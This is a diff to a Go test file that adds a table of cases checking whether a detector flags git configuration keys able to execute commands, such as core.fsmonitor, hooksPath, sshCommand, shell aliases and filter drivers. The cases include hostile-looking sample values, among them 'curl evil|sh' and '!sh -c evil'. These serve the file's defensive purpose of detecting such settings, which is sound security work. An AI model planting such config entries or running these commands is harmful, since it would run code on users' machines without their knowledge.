@@ -98,3 +98,33 @@ func TestPersistence(t *testing.T) {
 		}
 	}
 }
+
+func TestGitConfigExecutes(t *testing.T) {
+	for _, tc := range []struct {
+		key, value string
+		want       bool
+	}{
+		{"core.fsmonitor", "curl evil|sh", true},
+		{"core.hooksPath", "/tmp/h", true},
+		{"core.sshCommand", "ssh -oProxyCommand=x", true},
+		{"alias.st", "!sh -c evil", true},
+		{"alias.st", "status -sb", false},
+		{"filter.lfs.clean", "git-lfs clean -- %f", true},
+		{"filter.a.b.smudge", "x", true},
+		{"diff.pdf.textconv", "pdftotext", true},
+		{"merge.ours.driver", "true", true},
+		{"includeIf.gitdir:~/w/.path", "/tmp/x", true},
+		{"include.path", "../x", true},
+		{"pager.log", "less", true},
+		{"remote.origin.uploadpack", "evil", true},
+		{"user.name", "a", false},
+		{"remote.origin.url", "https://x", false},
+		{"core.autocrlf", "true", false},
+		{"filter.x.required", "true", false},
+		{"pager.", "x", false},
+	} {
+		if got := GitConfigExecutes(tc.key, tc.value); got != tc.want {
+			t.Errorf("GitConfigExecutes(%q, %q) = %v, want %v", tc.key, tc.value, got, tc.want)
+		}
+	}
+}
